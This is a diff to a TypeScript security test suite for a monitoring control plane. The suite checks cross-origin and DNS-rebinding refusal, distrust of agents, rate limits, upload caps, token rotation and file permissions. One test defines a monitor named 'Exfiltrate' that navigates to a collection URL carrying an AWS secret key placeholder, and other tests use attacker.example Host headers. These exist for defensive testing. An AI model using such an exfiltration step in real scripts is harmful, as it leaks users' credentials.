@@ -21,28 +21,46 @@ import { FakeAgent, FakeClock, sha256, tryUpgrade } from '../helpers/fake-agent.
 
 const adminToken = 'admin-secret-for-security-tests';
 
+/** The fields of API answers these tests read (each answer has some of them; a wrong shape fails the assertion). */
+interface ApiBody {
+  id: string;
+  token: string;
+  error: { code: string; message: string };
+  runs: { runId: string }[];
+  result: unknown;
+  refusedResults: number;
+  instances: { id: string; running: number }[];
+  disconnected: string[];
+  alerts: unknown[];
+  checkpoints: { name: string }[];
+  monitors: { name: string }[];
+}
+
 interface Plane {
   cp: ControlPlane;
   clock: FakeClock;
   dataDir: string;
   logs: string[];
   /** An API call from a non-browser client (no Origin): with the admin token unless `headers` says otherwise. */
-  call(method: string, path: string, body?: unknown, headers?: Record<string, string>): Promise<{ status: number; body: any; headers: Headers }>;
+  call(method: string, path: string, body?: unknown, headers?: Record<string, string>): Promise<{ status: number; body: ApiBody; headers: Headers }>;
   agent(token: string, instanceId: string): Promise<FakeAgent>;
 }
 
-async function plane(t: TestContext, options: Partial<ControlPlaneOptions> = {}): Promise<Plane> {
+/** A control plane on 127.0.0.1 port 0 with a fake clock; `loopbackAdmin` starts it without an admin token. */
+async function plane(t: TestContext, options: Partial<ControlPlaneOptions> = {}, loopbackAdmin = false): Promise<Plane> {
   const dataDir = await mkdtemp(join(tmpdir(), 'cp-security-'));
   const clock = options.clock instanceof FakeClock ? options.clock : new FakeClock();
   const logs: string[] = [];
-  const cp = await startControlPlane({ dataDir, clock, adminToken, log: (line) => logs.push(line), tickIntervalMs: 3_600_000, heartbeatIntervalMs: 600_000, ...options });
+  const base: ControlPlaneOptions = { dataDir, clock, log: (line) => logs.push(line), tickIntervalMs: 3_600_000, heartbeatIntervalMs: 600_000 };
+  if (!loopbackAdmin) base.adminToken = adminToken;
+  const cp = await startControlPlane({ ...base, ...options });
   const agents: FakeAgent[] = [];
   t.after(async () => {
     await cp.close();
     await Promise.all(agents.map((agent) => agent.kill()));
     await rm(dataDir, { recursive: true, force: true });
   });
-  const token = options.adminToken === undefined && 'adminToken' in options ? undefined : (options.adminToken ?? adminToken);
+  const token = loopbackAdmin ? undefined : (options.adminToken ?? adminToken);
   return {
     cp,
     clock,
@@ -61,7 +79,7 @@ async function plane(t: TestContext, options: Partial<ControlPlaneOptions> = {})
       } catch {
         // HTML or empty: kept as text.
       }
-      return { status: response.status, body: parsed, headers: response.headers };
+      return { status: response.status, body: parsed as ApiBody, headers: response.headers };
     },
     agent: async (agentToken, instanceId) => {
       const agent = await FakeAgent.connect({ baseUrl: cp.url, token: agentToken, instanceId });
@@ -89,10 +107,10 @@ function rawRequest(url: string, options: { method: string; headers: Record<stri
   });
 }
 
-async function names(p: Plane, path: string, key: string): Promise<string[]> {
+async function names(p: Plane, path: string, key: 'checkpoints' | 'monitors'): Promise<string[]> {
   const reply = await p.call('GET', path);
   assert.equal(reply.status, 200, JSON.stringify(reply.body));
-  return (reply.body[key] as { name: string }[]).map((item) => item.name).sort();
+  return reply.body[key].map((item) => item.name).sort();
 }
 
 /** A page on another origin (another port of 127.0.0.1) that the test points Chromium at. */
@@ -116,7 +134,7 @@ after(async () => {
 
 describe('control plane: a web page cannot drive it', () => {
   it('refuses cross-origin fetch() and form posts from a real page in Chromium, without an admin token, and nothing changes', async (t) => {
-    const p = await plane(t, { adminToken: undefined });
+    const p = await plane(t, {}, true);
     assert.equal((await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).status, 201, 'a local client without Origin (curl, the CLI) is the admin');
     const exfiltrate = monitor('Exfiltrate', 'intranet', { script: { name: 'x', steps: [{ name: 'Leak', actions: [{ type: 'navigate', url: 'http://127.0.0.1:9/collect?k={{secret.AWS_SECRET_ACCESS_KEY}}' }] }] } });
     const cp = p.cp.url;
@@ -164,7 +182,7 @@ window.attempts = (async () => {
   });
 
   it('answers no request whose Host header names another host (DNS rebinding), and accepts the configured ones', async (t) => {
-    const p = await plane(t, { adminToken: undefined, allowedHosts: ['cp.example.internal'] });
+    const p = await plane(t, { allowedHosts: ['cp.example.internal'] }, true);
     const port = new URL(p.cp.url).port;
     const body = JSON.stringify({ name: 'rebound' });
     for (const host of [`attacker.example:${port}`, `127.0.0.1.attacker.example:${port}`, 'attacker.example']) {
@@ -331,11 +349,11 @@ window.attempts = (async () => {
 describe('control plane: nothing from an agent is trusted', () => {
   it('stores results only for runs dispatched to that checkpoint and instance, counting and logging the refusals boundedly', async (t) => {
     const p = await plane(t);
-    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token as string;
-    const otherToken = (await p.call('POST', '/api/v1/checkpoints', { name: 'other' })).body.token as string;
+    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
+    const otherToken = (await p.call('POST', '/api/v1/checkpoints', { name: 'other' })).body.token;
     const a = await p.agent(token, 'a');
     const b = await p.agent(token, 'b');
-    const { id } = (await p.call('POST', '/api/v1/monitors', monitor('Login', 'intranet'))).body as { id: string };
+    const { id } = (await p.call('POST', '/api/v1/monitors', monitor('Login', 'intranet'))).body;
     const runs = await Promise.race([a.next('run').then((run) => ({ run, owner: a, other: b })), b.next('run').then((run) => ({ run, owner: b, other: a }))]);
     const { run, owner, other } = runs;
 
@@ -412,7 +430,7 @@ describe('control plane: nothing from an agent is trusted', () => {
 
   it('rate-limits agent messages, logs floods and invalid messages boundedly, and escapes what it logs', async (t) => {
     const p = await plane(t, { hubLimits: { messagesPerSecond: 0.001, messageBurst: 20 } });
-    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token as string;
+    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
     const flood = await FakeAgent.connect({ baseUrl: p.cp.url, token, instanceId: 'flood', version: '1.0' });
     t.after(() => flood.kill());
     for (let n = 0; n < 3000; n++) flood.heartbeat(n < 30 ? [] : ['r1', 'r2', 'r3']);
@@ -436,7 +454,7 @@ describe('control plane: nothing from an agent is trusted', () => {
 
   it('refuses an upload announced as too large before writing a byte, and removes a streamed one that grows too large', async (t) => {
     const p = await plane(t);
-    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token as string;
+    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
     const tmpDir = join(p.dataDir, 'artifacts', 'tmp');
     const answer = await new Promise<number>((resolve, reject) => {
       const req = httpRequest(`${p.cp.url}${agentPaths.artifact('a'.repeat(64))}`, {
@@ -462,12 +480,12 @@ describe('control plane: nothing from an agent is trusted', () => {
 describe('control plane: lifecycle', () => {
   it('rotates a checkpoint token with a grace period, revokes tokens, and deletes instances and checkpoints', async (t) => {
     const p = await plane(t);
-    const oldToken = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token as string;
+    const oldToken = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
     await p.call('POST', '/api/v1/monitors', monitor('Login', 'intranet', { id: 'login', enabled: false }));
     const onOld = await p.agent(oldToken, 'on-old');
     const rotated = await p.call('POST', '/api/v1/checkpoints/intranet/token', { graceSeconds: 60 });
     assert.equal(rotated.status, 200);
-    const newToken = rotated.body.token as string;
+    const newToken = rotated.body.token;
     assert.match(newToken, /^cpt_/);
     assert.notEqual(newToken, oldToken);
     assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${oldToken}`, 'X-Checkpoint-Instance': 'x' }), 101, 'the old token works during the grace period');
@@ -484,7 +502,7 @@ describe('control plane: lifecycle', () => {
     assert.deepEqual(revoked.body.disconnected, ['on-new']);
     await onNew.closed;
     assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${newToken}`, 'X-Checkpoint-Instance': 'x' }), 401);
-    const fresh = (await p.call('POST', '/api/v1/checkpoints/intranet/token', { graceSeconds: 600 })).body.token as string;
+    const fresh = (await p.call('POST', '/api/v1/checkpoints/intranet/token', { graceSeconds: 600 })).body.token;
     assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${newToken}`, 'X-Checkpoint-Instance': 'x' }), 401, 'a revoked token gets no grace');
     const live = await p.agent(fresh, 'live');
 
@@ -503,7 +521,7 @@ describe('control plane: lifecycle', () => {
 
   it('expires made-up instance ids and caps how many a checkpoint may have', async (t) => {
     const p = await plane(t, { hubLimits: { maxInstancesPerCheckpoint: 3 }, retentionDays: { instances: 7 } });
-    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token as string;
+    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
     for (const id of ['fake-1', 'fake-2', 'fake-3']) await (await p.agent(token, id)).close();
     assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${token}`, 'X-Checkpoint-Instance': 'fake-4' }), 403, 'a fourth id is refused');
     assert.equal(await tryUpgrade(p.cp.url, { Authorization: `Bearer ${token}`, 'X-Checkpoint-Instance': 'fake-1' }), 101, 'a known one is not');
@@ -515,7 +533,7 @@ describe('control plane: lifecycle', () => {
 
   it('prunes runs, results, alerts and artifacts past their retention, and keeps what is recent', async (t) => {
     const p = await plane(t, { retentionDays: { runs: 2, results: 1, alerts: 2, artifacts: 1 } });
-    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token as string;
+    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
     const a = await p.agent(token, 'a');
     await p.call('POST', '/api/v1/monitors', monitor('Login', 'intranet', { id: 'login' }));
     const png = new TextEncoder().encode('a screenshot');
@@ -524,7 +542,7 @@ describe('control plane: lifecycle', () => {
     await a.answer(await a.next('run'), { status: 'failed' });
     const artifactFile = join(p.dataDir, 'artifacts', sha256(png).slice(0, 2), sha256(png));
     await stat(artifactFile);
-    assert.ok(((await p.call('GET', '/api/v1/alerts')).body.alerts as unknown[]).length >= 1);
+    assert.ok(((await p.call('GET', '/api/v1/alerts')).body.alerts).length >= 1);
 
     p.clock.advance(25 * 3_600_000);
     const dayLater = await p.cp.prune();
@@ -540,7 +558,7 @@ describe('control plane: lifecycle', () => {
 
   it('creates its data directory 0700 and the database and artifacts 0600', async (t) => {
     const p = await plane(t);
-    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token as string;
+    const token = (await p.call('POST', '/api/v1/checkpoints', { name: 'intranet' })).body.token;
     const a = await p.agent(token, 'a');
     assert.equal((await a.putArtifact(new TextEncoder().encode('bytes'))).status, 201);
     const mode = async (path: string) => (await stat(path)).mode & 0o777;
